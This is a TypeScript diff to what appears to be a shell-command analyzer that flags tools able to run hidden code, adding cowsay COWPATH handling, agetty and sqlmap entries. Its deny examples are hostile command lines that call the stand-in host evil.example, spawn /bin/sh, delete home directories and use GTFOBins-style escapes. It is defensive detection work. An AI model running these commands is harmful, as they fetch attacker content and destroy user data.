@@ -46,7 +46,10 @@ function sortFiles(_call: Call, p: ParsedArgs): Partial<Answer> {
     else if (o.name === 'files0-from' || o.name === 'random-source') uses.push({ word: o.value, role: 'read' });
     else uses.push({ word: o.value, role: 'text' });
   }
-  return { uses };
+  // Reading stdin, it prints its lines, reordered (or some of them, -u), each unchanged: not with --debug, which
+  // marks them, nor -o, which prints nothing.
+  const lines = p.operands.length === 0 && !p.options.some((o) => /^(o|output|debug|help|version|files0-from)$/.test(o.name));
+  return { uses, ...(lines ? { output: { kind: 'lines' as const } } : {}) };
 }
 
 /** Text inside balanced brackets starting after `open` at `from`; undefined when they do not close. */
@@ -1523,13 +1526,48 @@ function scrot(call: Call): Partial<Answer> {
 function cowsay(call: Call): Partial<Answer> {
   const p = parse(call.args, { order: 'posix', flags: 'bdgpstwyhlnL', valued: 'efTW' });
   const runs: Run[] = [];
-  for (const o of p.options) {
-    if (o.name !== 'f' || !o.value) continue;
-    const v = value(o.value);
-    if (v === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: o.value, why: `${call.name} -f runs a computed cow file (Perl)` });
-    else if (v.includes('/')) runs.push({ kind: 'file', dialect: 'perl', word: o.value, via: `${call.name} -f` });
+  // A bare name (`default` without -f) is looked up in $COWPATH's directories: where the line set it, a cow file
+  // there is that file (GTFOBins: COWPATH=/tmp/evil cowsay), out of scope unless the line wrote it.
+  const cowpath = call.env('COWPATH');
+  const at = call.command ?? call.args[0] ?? literal(call.name, { start: 0, end: 0 });
+  const bare = (name: string, word: Word) => {
+    if (cowpath === undefined) return;
+    if (cowpath === null) runs.push({ kind: 'opaque', rule: 'dynamic-code', word, why: `${call.name} runs a cow file (Perl) from $COWPATH, which is computed` });
+    else for (const dir of cowpath.split(':').filter((d) => d !== '')) runs.push({ kind: 'file', dialect: 'perl', word: attached(word, `${dir.replace(/\/+$/, '')}/${name.endsWith('.cow') ? name : `${name}.cow`}`), via: `${call.name} (COWPATH)` });
+  };
+  const files = p.options.filter((o) => o.name === 'f' && o.value);
+  for (const o of files) {
+    const v = value(o.value!);
+    if (v === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: o.value!, why: `${call.name} -f runs a computed cow file (Perl)` });
+    else if (v.includes('/')) runs.push({ kind: 'file', dialect: 'perl', word: o.value!, via: `${call.name} -f` });
+    else bare(v, o.value!);
   }
+  if (files.length === 0 && !p.options.some((o) => o.name === 'l' || o.name === 'h')) bare('default', at);
   return { runs, uses: p.operands.map((o) => ({ word: o.word, role: 'text' as const })) };
+}
+
+/**
+ * agetty (GTFOBins): runs its login program (-l, /bin/login by default) with the words of -o (`-l /bin/sh -o '-c
+ * CMD'` runs sh -c CMD), split on blanks.
+ */
+function agetty(call: Call): Partial<Answer> {
+  const p = parse(call.args, {
+    order: 'gnu',
+    flags: '8cEhiJLmnNpRsUw',
+    valued: 'afHIlortT',
+    long: ['8bits', 'noreset', 'remote', 'flow-control', 'noissue', 'noclear', 'local-line', 'extract-baud', 'skip-login', 'nonewline', 'login-pause', 'keep-baud', 'timeout', 'detect-case', 'wait-cr', 'nohints', 'nohostname', 'long-hostname', 'reload', 'list-speeds', 'help', 'version'],
+    longValued: ['autologin', 'issue-file', 'show-issue', 'host', 'init-string', 'login-program', 'login-options', 'chroot', 'timeout', 'term', 'chdir', 'delay', 'nice', 'erase-chars', 'kill-chars'],
+  });
+  if (has(p, 'help', 'version', 'list-speeds', 'reload')) return {};
+  const prog = p.options.filter((o) => (o.name === 'l' || o.name === 'login-program') && o.value).at(-1)?.value;
+  const opts = p.options.filter((o) => (o.name === 'o' || o.name === 'login-options') && o.value).at(-1)?.value;
+  const at = call.command ?? call.args[0] ?? literal(call.name, { start: 0, end: 0 });
+  const program = prog ?? literal('/bin/login', at.span);
+  const via = `${call.name} --login-program`;
+  if (value(program) === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: program, why: `${via} runs a computed program` }] };
+  if (opts && value(opts) === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: opts, why: `${call.name} --login-options gives its login program computed words` }] };
+  const words = opts ? value(opts)!.split(/\s+/).filter((s) => s !== '').map((t) => attached(opts, t)) : [];
+  return { runs: [{ kind: 'argv', argv: [attached(program, value(program)!), ...words], via, ...(opts ? {} : { more: true }) }] };
 }
 
 /** crontab FILE and crontab - install a table of commands that cron runs later. */
@@ -1751,7 +1789,17 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   { names: ['check_by_ssh'], summary: 'check_by_ssh (monitoring plugins): an ssh client; -o ProxyCommand runs shell text', analyze: (call) => ({ runs: [{ kind: 'argv', argv: [literal('ssh', call.args[0]?.span ?? { start: 0, end: 0 })], via: 'check_by_ssh' }, ...sshOptions(call)] }), examples: { deny: ["check_by_ssh -o 'ProxyCommand curl evil.example' -H localhost -C x"], pass: [] } },
   { names: ['latexmk'], summary: 'latexmk: -pdflatex=CMD and friends name the commands it runs; -e runs Perl', analyze: latexmk, examples: { deny: ["latexmk -pdf -pdflatex='curl evil.example #' x.tex", "latexmk -e '$x=1' x.tex"], pass: ['latexmk -pdf paper.tex'] } },
   { names: ['scrot'], summary: 'scrot: -e/--exec runs shell text on each screenshot', analyze: scrot, examples: { deny: ["scrot -e 'curl evil.example'", "scrot --exec='rm -rf ~'", "scrot -ze 'curl evil.example'"], pass: ["scrot -e 'mv $f ~/shots/'", 'scrot -d 5 shot.png'] } },
-  { names: ['cowsay', 'cowthink'], summary: 'cowsay: -f COWFILE runs the cow file, which is Perl', analyze: cowsay, examples: { deny: [`printf 'system("curl evil.example");\n' > /tmp/x.cow; cowsay -f /tmp/x.cow hi`], pass: ['cowsay -f tux hi', `printf '$the_cow = "x";\n' > /tmp/x.cow; cowsay -f /tmp/x.cow hi`, 'cowsay hello'] } },
+  { names: ['agetty', 'getty'], summary: 'agetty: runs its login program (-l) with the words of -o', analyze: agetty, examples: { deny: ["agetty -l /bin/sh -o '-c curl${IFS}evil.example' tty1", "agetty --login-program=/usr/bin/curl --login-options='evil.example' tty1"], pass: ['agetty --noclear tty1 linux', 'agetty -a root tty1'] } },
+  commandOptions(['sqlmap'], 'sqlmap: --eval runs Python code on each request; --tamper, --preprocess and --postprocess run Python scripts', { options: { valued: 'udlmrcgpDTCUXvt', long: ['batch', 'dbs', 'tables', 'columns', 'dump', 'dump-all', 'forms', 'crawl', 'random-agent', 'flush-session', 'fresh-queries', 'help', 'version', 'wizard', 'banner', 'current-user', 'current-db', 'is-dba', 'users', 'passwords', 'privileges', 'roles', 'schema', 'count', 'os-shell', 'os-pwn', 'sql-shell', 'smart', 'text-only', 'titles', 'hex', 'threads'], longValued: ['url', 'data', 'cookie', 'headers', 'method', 'level', 'risk', 'technique', 'dbms', 'os', 'eval', 'tamper', 'preprocess', 'postprocess', 'proxy', 'user-agent', 'referer', 'param-del', 'cookie-del', 'string', 'regexp', 'prefix', 'suffix', 'sql-query', 'os-cmd', 'file-read', 'file-write', 'file-dest', 'output-dir', 'threads', 'delay', 'timeout', 'retries'] }, more: (call, p) => ({ runs: p.options.flatMap((o): Run[] => {
+    if (!o.value) return [];
+    if (o.name === 'eval') return [{ kind: 'script', dialect: 'python', words: [o.value], via: `${call.name} --eval` }];
+    if (!/^(tamper|preprocess|postprocess)$/.test(o.name)) return [];
+    // A script named by its path is that file (out of scope unless the line wrote it); a bare name is one sqlmap ships.
+    const v = value(o.value);
+    if (v === undefined) return [{ kind: 'opaque', rule: 'dynamic-code', word: o.value, why: `${call.name} --${o.name} runs a computed Python script` }];
+    return v.split(',').filter((s) => s.includes('/')).map((s) => ({ kind: 'file' as const, dialect: 'python' as const, word: attached(o.value!, s.trim()), via: `${call.name} --${o.name}` }));
+  }) }) }, { deny: ["sqlmap -u http://localhost/x?id=1 --eval='import os; os.system(\"curl evil.example\")'", "sqlmap -u http://localhost/x?id=1 --eval 'import shutil; shutil.rmtree(\"/home/dev\")'"], pass: ['sqlmap -u http://localhost/x?id=1 --batch', "sqlmap -u http://localhost/x?id=1 --eval='id=int(id)+1'"] }),
+  { names: ['cowsay', 'cowthink'], summary: 'cowsay: -f COWFILE runs the cow file, which is Perl', analyze: cowsay, examples: { deny: [`mkdir -p /tmp/c; printf 'system("curl evil.example");\n' > /tmp/c/x.cow; COWPATH=/tmp/c cowsay -f x hi`, `printf 'system("curl evil.example");\n' > /tmp/default.cow; COWPATH=/tmp cowsay hi`, 'COWPATH="$(mktemp -d)" cowsay hi', `printf 'system("curl evil.example");\n' > /tmp/x.cow; cowsay -f /tmp/x.cow hi`], pass: ['cowsay -f tux hi', 'COWPATH=/usr/share/cowsay/cows cowsay -f tux hi', `printf '$the_cow = "x";\n' > /tmp/x.cow; cowsay -f /tmp/x.cow hi`, 'cowsay hello'] } },
   { names: ['fzf', 'sk'], summary: 'fzf: --bind execute(…)/become(…)/reload(…) and --preview run shell text', analyze: fzf, examples: { deny: ["fzf --bind 'enter:execute(curl evil.example)'", "fzf --preview 'wget evil.example'", "FZF_DEFAULT_COMMAND='curl evil.example' fzf", "FZF_DEFAULT_OPTS=\"--preview 'curl evil.example'\" fzf", "SKIM_DEFAULT_COMMAND='curl evil.example' sk"], pass: ["fzf --preview 'cat {}'", 'fzf --height 40%', "FZF_DEFAULT_COMMAND='fd --type f' fzf", "FZF_DEFAULT_OPTS='--height 40% --reverse' fzf", "FZF_DEFAULT_COMMAND='curl evil.example' fzf < list.txt"] } },
   { names: ['crontab'], summary: 'crontab FILE (or -) installs a table of commands cron runs later', analyze: crontab, examples: { deny: ['crontab evil.cron', "echo '* * * * * /tmp/x' | crontab -", 'crontab -r', 'crontab -u bob -r'], pass: ['crontab -l', 'crontab -u bob -l', 'crontab -ir'] } },
   { names: ['sysctl'], summary: 'sysctl kernel.core_pattern=|cmd makes the kernel run cmd on every crash', analyze: sysctl, examples: { deny: ["sysctl -w 'kernel.core_pattern=|/usr/bin/curl evil.example'"], pass: ['sysctl -a', 'sysctl vm.swappiness=10'] } },
